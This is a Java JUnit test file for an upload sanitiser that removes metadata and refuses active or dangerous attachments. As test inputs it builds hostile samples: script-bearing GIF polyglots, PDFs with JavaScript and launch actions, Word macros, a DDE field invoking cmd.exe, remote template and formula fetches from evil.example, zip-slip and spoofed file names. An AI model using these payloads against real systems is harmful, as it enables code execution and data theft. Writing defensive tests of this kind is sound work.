package io.taros.attachment;

import static org.assertj.core.api.Assertions.assertThat;

import io.taros.attachment.CheckFile.Decision;
import io.taros.knowledge.extract.SharedData;
import java.awt.Color;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.util.Base64;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.xwpf.usermodel.XWPFRelation;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STFldCharType;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.util.unit.DataSize;

/** Files are told apart by what is in them, and handed on without what they tell. */
class CheckFileTest {
    private static final CheckFile CHECK =
            new CheckFile(
                    new Scanner(
                            new AttachmentSettings(
                                    DataSize.ofMegabytes(10),
                                    5,
                                    DataSize.ofMegabytes(100),
                                    DataSize.ofGigabytes(1),
                                    "",
                                    Duration.ofSeconds(30)),
                            null));

    @AfterAll
    static void close() {
        CHECK.destroy();
    }

    @Nested
    class Pictures {
        @Test
        void loseWhatTheCameraNoted() throws Exception {
            var photo = Samples.photo(1);
            assertThat(text(photo)).contains(Samples.SECRET);

            var taken = taken("IMG_1.JPG", photo);

            assertThat(taken.type()).isEqualTo(FileType.JPEG);
            assertThat(text(taken.content())).doesNotContain(Samples.SECRET, "Exif");
            assertThat(taken.width()).isEqualTo(80);
        }

        /** Where red, which the camera saw on its left, is to be seen by people. */
        @ParameterizedTest
        @CsvSource({
            "1, LEFT",
            "2, RIGHT",
            "3, RIGHT",
            "4, LEFT",
            "5, TOP",
            "6, TOP",
            "7, BOTTOM",
            "8, BOTTOM"
        })
        void areTheRightWayUp(int orientation, String red) throws Exception {
            var taken = taken("photo.jpg", Samples.photo(orientation));

            var image = ImageIO.read(new ByteArrayInputStream(taken.content()));
            var isUpright = red.equals("TOP") || red.equals("BOTTOM");
            assertThat(taken.width()).isEqualTo(isUpright ? 40 : 80);
            assertThat(image.getWidth()).isEqualTo(taken.width());
            var seen =
                    switch (red) {
                        case "LEFT" -> image.getRGB(5, 20);
                        case "RIGHT" -> image.getRGB(74, 20);
                        case "TOP" -> image.getRGB(20, 5);
                        default -> image.getRGB(20, 74);
                    };
            assertThat(new Color(seen).getRed()).isGreaterThan(200);
            assertThat(new Color(seen).getBlue()).isLessThan(60);
        }

        @Test
        void loseWhatHidesBehindThem() throws Exception {
            var polyglot = new ByteArrayOutputStream();
            polyglot.writeBytes(Samples.picture("gif"));
            polyglot.writeBytes(
                    "<script>alert(1)</script>PK\u0003\u0004".getBytes(StandardCharsets.UTF_8));

            var taken = taken("a.gif", polyglot.toByteArray());

            assertThat(taken.type()).isEqualTo(FileType.PNG);
            assertThat(taken.name()).isEqualTo("a.gif.png");
            assertThat(text(taken.content())).doesNotContain("script", "PK");
        }

        @Test
        void areReadFromWebP() throws Exception {
            // Lossless, one pixel by one.
            var webp =
                    Base64.getDecoder().decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");

            var taken = taken("a.webp", webp);

            assertThat(taken.type()).isEqualTo(FileType.PNG);
            assertThat(taken.width()).isEqualTo(1);
        }

        @ParameterizedTest
        @ValueSource(ints = {12_000, 30_000})
        void areMeasuredBeforeTheyAreUnpacked(int side) throws Exception {
            assertThat(refused("flood.png", Samples.pixelFlood(side)))
                    .isEqualTo("attachment.input.too-many-pixels");
            assertThat(taken("next.png", Samples.picture("png"))).isNotNull();
        }

        @Test
        void areFewerPixelsWhereTheyAreUnpackedAtOnce() throws Exception {
            assertThat(refused("a.jpg", Samples.progressive(6_000)))
                    .isEqualTo("attachment.input.too-many-pixels");
            assertThat(taken("b.jpg", Samples.progressive(0)).width()).isEqualTo(80);
        }

        @Test
        void areRefusedWhenTheyAreBroken() throws Exception {
            var half = java.util.Arrays.copyOf(Samples.picture("png"), 50);

            assertThat(refused("a.png", half)).isEqualTo("attachment.input.damaged");
        }
    }

    @Nested
    class Documents {
        @Test
        void pdfsLoseWhatTheyTellOfTheirMakers() throws Exception {
            assertThat(text(Samples.pdf())).contains(Samples.SECRET);

            var taken = taken("invoice.pdf", Samples.pdf());

            assertThat(taken.type()).isEqualTo(FileType.PDF);
            assertThat(text(taken.content()))
                    .startsWith("%PDF-")
                    .doesNotContain(Samples.SECRET, "/Metadata", "/Author");
        }

        @ParameterizedTest
        @ValueSource(strings = {"JavaScript", "Launch", "SubmitForm", "ImportData"})
        void pdfsThatActAreRefused(String action) throws Exception {
            assertThat(refused("a.pdf", Samples.pdfWithAction(action)))
                    .isEqualTo("attachment.input.active");
        }

        @Test
        void pdfsThatActUnaskedAreRefused() throws Exception {
            var opening = Samples.pdf(catalog -> catalog.setItem("OpenAction", action("URI")));
            var leaving =
                    Samples.pdf(catalog -> {
                        var unasked = new COSDictionary();
                        unasked.setItem("WC", action("Named"));
                        catalog.setItem("AA", unasked);
                    });
            var going = Samples.pdf(catalog -> catalog.setItem("OpenAction", action("GoTo")));

            assertThat(refused("a.pdf", opening)).isEqualTo("attachment.input.active");
            assertThat(refused("a.pdf", leaving)).isEqualTo("attachment.input.active");
            assertThat(taken("b.pdf", going)).isNotNull();
        }

        private static COSDictionary action(String kind) {
            var action = new COSDictionary();
            action.setName(COSName.S, kind);
            return action;
        }

        @ParameterizedTest
        @ValueSource(strings = {"F", "Ref"})
        void pdfsOfWhichAPartIsElsewhereAreRefused(String key) throws Exception {
            var elsewhere =
                    Samples.pdf(catalog -> {
                        var stream = new COSStream();
                        stream.setString(COSName.getPDFName(key), "//evil.example/a");
                        catalog.setItem("X", stream);
                    });

            assertThat(refused("a.pdf", elsewhere)).isEqualTo("attachment.input.embedded");
        }

        @Test
        void pdfsThatCarryFilesAreRefused() throws Exception {
            assertThat(refused("a.pdf", Samples.pdfWithFile()))
                    .isEqualTo("attachment.input.embedded");
        }

        @Test
        void wordLosesItsProperties() throws Exception {
            var word = Samples.word(document -> {});
            assertThat(Samples.creatorOf(word)).hasValue(Samples.SECRET);

            var taken = taken("letter.docx", word);

            assertThat(taken.type()).isEqualTo(FileType.DOCX);
            assertThat(Samples.creatorOf(taken.content()).orElse("")).isEmpty();
            assertThat(unpacked(taken.content()))
                    .contains("Order 4711")
                    .doesNotContain(Samples.SECRET);
        }

        @Test
        void excelLosesItsProperties() throws Exception {
            var taken = taken("orders.xlsx", Samples.excel());

            assertThat(taken.type()).isEqualTo(FileType.XLSX);
            assertThat(unpacked(taken.content())).contains("4711").doesNotContain(Samples.SECRET);
        }

        @Test
        void macrosAreRefused() throws Exception {
            var macros =
                    Samples.word(document ->
                            document.getPackage()
                                    .createPart(
                                            org.apache.poi.openxml4j.opc.PackagingURIHelper
                                                    .createPartName("/word/vbaProject.bin"),
                                            "application/vnd.ms-office.vbaProject"));

            assertThat(refused("a.docx", macros)).isEqualTo("attachment.input.active");
        }

        @Test
        void whatIsFetchedFromElsewhereIsRefused() throws Exception {
            var template =
                    Samples.word(document ->
                            document.getPackagePart()
                                    .addExternalRelationship(
                                            "https://evil.example/t.dotm",
                                            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"));
            var link =
                    Samples.word(document ->
                            document.getPackagePart()
                                    .addExternalRelationship(
                                            "https://shop.example/",
                                            XWPFRelation.HYPERLINK.getRelation()));

            assertThat(refused("a.docx", template)).isEqualTo("attachment.input.embedded");
            assertThat(taken("b.docx", link)).isNotNull();
        }

        @Test
        void whatIsCarriedUnderAnotherNameIsRefused() throws Exception {
            var carrying =
                    Samples.word(document -> {
                        var inside =
                                document.getPackage()
                                        .createPart(
                                                PackagingURIHelper.createPartName(
                                                        "/word/media/a.bin"),
                                                "image/png");
                        document.getPackagePart()
                                .addRelationship(
                                        inside.getPartName(),
                                        TargetMode.INTERNAL,
                                        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/OLEObject");
                    });

            assertThat(refused("a.docx", carrying)).isEqualTo("attachment.input.embedded");
        }

        @ParameterizedTest
        @CsvSource({
            "DD, EAUTO c:/cmd.exe, false",
            "' includepicture', ' \"https://evil.example/a.png\"', false",
            "HYPERLINK, ' \"https://shop.example/dde\"', true"
        })
        void fieldsThatFetchAreRefused(String start, String rest, boolean isTaken)
                throws Exception {
            var word =
                    Samples.word(document -> {
                        var run = document.createParagraph().createRun().getCTR();
                        run.addNewFldChar().setFldCharType(STFldCharType.BEGIN);
                        run.addNewInstrText().setStringValue(start);
                        run.addNewInstrText().setStringValue(rest);
                        run.addNewFldChar().setFldCharType(STFldCharType.END);
                    });

            if (isTaken) {
                assertThat(taken("a.docx", word)).isNotNull();
            } else {
                assertThat(refused("a.docx", word)).isEqualTo("attachment.input.embedded");
            }
        }

        @Test
        void formulasThatFetchAreRefused() throws Exception {
            assertThat(refused("a.xlsx", Samples.excel("WEBSERVICE(\"https://evil.example\")")))
                    .isEqualTo("attachment.input.embedded");
            assertThat(taken("b.xlsx", Samples.excel("SUM(1,2)"))).isNotNull();
        }

        @Test
        void archivesAreRefused() throws Exception {
            var bytes = new ByteArrayOutputStream();
            try (var zip = new ZipOutputStream(bytes)) {
                zip.putNextEntry(new ZipEntry("../../etc/passwd"));
                zip.write("root".getBytes(StandardCharsets.UTF_8));
            }

            assertThat(refused("a.docx", bytes.toByteArray())).startsWith("attachment.input.");
        }
    }

    @Nested
    class Texts {
        @Test
        void areKeptAsWordsOfUtf8() throws Exception {
            var western = "Størrelse;Å".getBytes(java.nio.charset.Charset.forName("windows-1252"));

            var taken = taken("orders.csv", western);

            assertThat(taken.name()).isEqualTo("orders.csv.txt");
            assertThat(new String(taken.content(), StandardCharsets.UTF_8))
                    .isEqualTo("Størrelse;Å");
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
                    " \n<!DOCTYPE html><p>Hello",
                    "<?xml version='1.0'?><a/>"
                })
        void areNoPagesAndNoDrawings(String markup) throws Exception {
            assertThat(refused("a.txt", markup.getBytes(StandardCharsets.UTF_8)))
                    .isEqualTo("attachment.input.markup");
        }

        @Test
        void areNoPrograms() throws Exception {
            var program = new byte[] {'M', 'Z', 0, 1, 2, 3};

            assertThat(refused("a.txt", program)).isEqualTo("attachment.input.unknown");
            assertThat(refused("a.txt", new byte[0])).isEqualTo("attachment.input.empty");
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "../../etc/passwd|passwd.png",
                "C:\\Users\\Me\\a.png|a.png",
                "photo.png.exe|photo.png.exe.png",
                "gpj.\u202eexe.png|gpj.exe.png",
                "a\u0000b.png|ab.png",
                "...|file.png",
                "<b>x</b>.PNG|b_.PNG"
            })
    void namesAreMadeTrue(String given, String kept) throws Exception {
        assertThat(taken(given, Samples.picture("png")).name()).isEqualTo(kept);
    }

    @Test
    void longNamesKeepTheirEnd() throws Exception {
        var name = taken("x".repeat(300) + ".png", Samples.picture("png")).name();

        assertThat(name).hasSize(150).endsWith("x.png");
        var wide = taken("😀".repeat(60) + ".png", Samples.picture("png")).name();
        assertThat(wide.getBytes(StandardCharsets.UTF_8)).hasSizeLessThanOrEqualTo(150);
        assertThat(wide).endsWith("😀.png").doesNotContain("?", "\ufffd");
    }

    /** What attackers send: nothing of it is handed on as it came, and none of it as a page. */
    @Test
    void nothingOfTheCorpusIsHandedOnAsItCame() throws Exception {
        var files = Files.list(SharedData.folder("attack/upload")).sorted().toList();

        for (var file : files) {
            var content = Files.readAllBytes(file);
            var name = file.getFileName().toString();
            switch (decided(name, content)) {
                case Decision.Taken taken -> {
                    assertThat(taken.type()).as(name).isIn(FileType.JPEG, FileType.TEXT);
                    assertThat(text(taken.content()))
                            .as(name)
                            .doesNotContainIgnoringCase("<script", "onclick=", "onmouseover=");
                }
                case Decision.Refused(var key) -> assertThat(key).as(name).isNotEmpty();
                case Decision.Infected _, Decision.NotScanned _ ->
                        throw new AssertionError("Nobody scans");
            }
        }
        assertThat(files).hasSizeGreaterThan(10);
    }

    private static Decision.Taken taken(String name, byte[] content) throws Exception {
        return (Decision.Taken) decided(name, content);
    }

    private static String refused(String name, byte[] content) throws Exception {
        return ((Decision.Refused) decided(name, content)).key();
    }

    private static Decision decided(String name, byte[] content) throws Exception {
        return CHECK.check(name, new ByteArrayResource(content));
    }

    private static String text(byte[] content) {
        return new String(content, StandardCharsets.ISO_8859_1);
    }

    private static String unpacked(byte[] zip) throws Exception {
        var all = new StringBuilder();
        try (var entries = new java.util.zip.ZipInputStream(new ByteArrayInputStream(zip))) {
            while (entries.getNextEntry() != null) {
                all.append(new String(entries.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return all.toString();
    }
}
